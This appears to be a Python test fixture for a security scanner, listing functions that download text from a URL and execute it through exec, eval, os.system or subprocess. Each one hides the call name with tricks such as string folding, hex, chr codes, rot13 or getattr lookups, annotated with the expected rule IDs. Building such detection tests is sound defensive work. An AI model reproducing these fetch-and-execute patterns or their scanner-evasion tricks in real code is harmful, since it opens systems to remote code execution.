"""Calls resolved through name indirection: import calls, getattr and namespace lookups whose
names fold to constants."""
import builtins
import importlib
import sys

import requests

EX = "ex" + "ec"


def import_chain(u):
    exec(__import__("urllib.request").request.urlopen(u).read())  # expect: RCE001


def import_module_chain(u):
    importlib.import_module("os").system(__import__("requests").get(u).text)  # expect: RCE006


def import_fromlist(u):
    mod = __import__("urllib.request", fromlist=["urlopen"])
    exec(mod.urlopen(u).read())  # expect: RCE001


def folded_import(u):
    __import__("o" + "s").system(requests.get(u).text)  # expect: RCE006


def hex_import(u):
    m = importlib.import_module(bytes.fromhex("7375627072" + "6f63657373").decode())
    m.run(requests.get(u).text, shell=True)  # expect: RCE006


def getattr_concat(u):
    getattr(builtins, "ex" + "ec")(requests.get(u).text)  # expect: RCE001


def getattr_global_name(u):
    getattr(builtins, EX)(requests.get(u).text)  # expect: RCE001


def getattr_chr(u):
    getattr(builtins, chr(101) + chr(118) + chr(97) + chr(108))(requests.get(u).text)  # expect: RCE001


def getattr_rot13(u):
    import codecs
    getattr(builtins, codecs.decode("rkrp", "rot13"))(requests.get(u).text)  # expect: RCE001


def getattr_module(u):
    getattr(__import__("os"), "sys" + "tem")(requests.get(u).text)  # expect: RCE006


def dict_join(u):
    builtins.__dict__["".join(["e", "val"])](requests.get(u).text)  # expect: RCE001


def vars_reversed(u):
    vars(builtins)["cexe"[::-1]](requests.get(u).text)  # expect: RCE001


def globals_percent(u):
    globals()["%s%s" % ("ex", "ec")](requests.get(u).text)  # expect: RCE001


def globals_get_format(u):
    globals().get("{}{}".format("ev", "al"))(requests.get(u).text)  # expect: RCE001


def builtins_fstring(u):
    a = "ex"
    __builtins__[f"{a}ec"](requests.get(u).text)  # expect: RCE001


def builtins_chr_join(u):
    __builtins__["".join(chr(c) for c in [101, 120, 101, 99])](requests.get(u).text)  # expect: RCE001


def builtins_map_chr(u):
    name = "".join(map(chr, [101, 118, 97, 108]))
    builtins.__dict__.get(name)(requests.get(u).text)  # expect: RCE001


def sys_modules(u):
    sys.modules["o" + "s"].system(requests.get(u).text)  # expect: RCE006


def globals_builtins(u):
    globals()["__builtins__"].exec(requests.get(u).text)  # expect: RCE001
